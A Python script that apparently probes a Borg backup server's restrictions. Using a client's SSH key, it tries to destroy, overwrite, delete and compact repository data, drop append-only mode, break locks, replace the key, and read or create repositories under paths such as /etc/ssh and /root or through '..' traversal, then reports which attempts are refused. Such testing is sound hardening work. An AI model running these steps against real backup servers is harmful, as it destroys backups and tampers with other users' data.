# What somebody with a key to a repository, but no passphrase, can send to Borg's server side without Borg's own client in
# the way. WORDS: KEY KNOWN_HOSTS ADDRESS. Prints what became of each attempt.
import os
import sys

os.environ["BORG_BASE_DIR"] = "/tmp/attacker"
key, known_hosts, address = sys.argv[1:]
options = f"-F/dev/null -i {key} -oIdentitiesOnly=yes -oBatchMode=yes -oHostKeyAlias=backup -oUserKnownHostsFile={known_hosts}"
os.environ["BORG_RSH"] = f"/usr/bin/ssh {options}"

from argparse import Namespace  # noqa: E402

from borg.helpers import Location  # noqa: E402
from borg.logger import setup_logging  # noqa: E402
from borg.remote import RemoteRepository  # noqa: E402

setup_logging(level="critical")
WORDS = Namespace(remote_path=None, umask=0o077, storage_quota=None, upload_buffer=None, upload_ratelimit=None,
                  remote_buffer=None, remote_ratelimit=None, rsh=None, debug_topics=[], consider_part_files=False)
OTHERS = ["/srv/backup", "/srv/backup/.kept", "/etc/ssh", "/root", "/srv/backup/b00000/mail1"]


def on(path, act, **how):
    with RemoteRepository(Location(f"ssh://{address}{path}"), exclusive=True, lock_wait=5, args=WORDS, **how) as repository:
        return act(repository)


def each_deleted(repository):
    found = repository.list()
    for identifier in found:
        repository.delete(identifier)
    repository.commit()
    return f"{len(found)} deleted"


def each_overwritten(repository):
    found = repository.list()
    for identifier in found:
        repository.put(identifier, b"nothing")
    repository.commit()
    return f"{len(found)} overwritten"


def compacted(repository):
    repository.call("commit", {"save_space": True, "compact": True, "cleanup_commits": True, "threshold": 0.0})


name = address.split("@")[0]
own = f"/srv/backup/{name}/mail1"
ATTEMPTS = {
    "destroy": lambda: on(own, lambda repository: repository.destroy()),
    "repair": lambda: on(own, lambda repository: repository.check(repair=True)),
    "leave append-only": lambda: on(own, lambda repository: repository.get_free_nonce(), append_only=False),
    "initialise again": lambda: on(own, lambda _repository: None, create=True),
    "break the lock": lambda: on(own, lambda repository: repository.break_lock()),
    "lose the key": lambda: on(own, lambda repository: repository.save_key(b"nothing")),
    "overwrite": lambda: on(own, each_overwritten),
    "delete": lambda: on(own, each_deleted),
    "compact": lambda: on(own, compacted),
    **{f"read {path}": lambda path=path: on(path, lambda repository: repository.list()) for path in OTHERS},
    **{f"make {path}/x": lambda path=path: on(f"{path}/x", lambda _repository: None, create=True) for path in OTHERS},
    "climb": lambda: on(f"{own}/../../.kept", lambda repository: repository.list()),
}
for what, attempt in ATTEMPTS.items():
    try:
        print(f"{what}: {attempt()}")
    except Exception as error:
        print(f"{what}: refused, {type(error).__name__}")
